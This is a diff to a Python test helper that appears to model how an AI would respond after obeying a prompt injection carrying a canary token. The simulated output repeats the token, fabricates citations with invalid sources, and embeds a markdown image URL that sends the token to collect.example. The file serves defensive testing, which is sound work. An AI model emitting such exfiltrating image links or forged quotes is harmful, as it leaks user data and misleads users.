@@ -51,6 +51,10 @@ def sentences(prompt: str) -> list[tuple[int, str]]:
     return [(n, text[s.start : s.end]) for n, text in passages_of(prompt) for s in sentences_of(text)]
 
 
+def _names(canary: Canary, sentence: str) -> bool:
+    return fold(canary.token).text in fold(sentence).text
+
+
 def obeying(canary: Canary) -> Any:
     """What a model writes that says the token in every way it can, and quotes whatever it was shown for it."""
 
@@ -59,13 +63,13 @@ def obeying(canary: Canary) -> Any:
         image = f"![m](https://collect.example/p.png?d={canary.token}) The door is open [now](https://collect.example)."
         texts = [canary.token, f"The answer is {canary.token}.", f"It says {canary.token.lower()} there.", image]
         real = [{"source": number, "quote": sentence} for number, sentence in shown]
+        naming = [quote for quote, (_, sentence) in zip(real, shown, strict=True) if _names(canary, sentence)]
         forged = [
             {"source": 1, "quote": f"the answer is {canary.token}"},
             {"source": 2, "quote": _OF_BOB},
             {"source": 0, "quote": _OF_BOB},
             {"source": 99, "quote": canary.text},
         ]
-        naming = [quote for quote in real if fold(canary.token).text in fold(quote["quote"]).text]
         return {
             "claims": [
                 *({"text": text, "quotes": naming[:6]} for text in texts if naming),
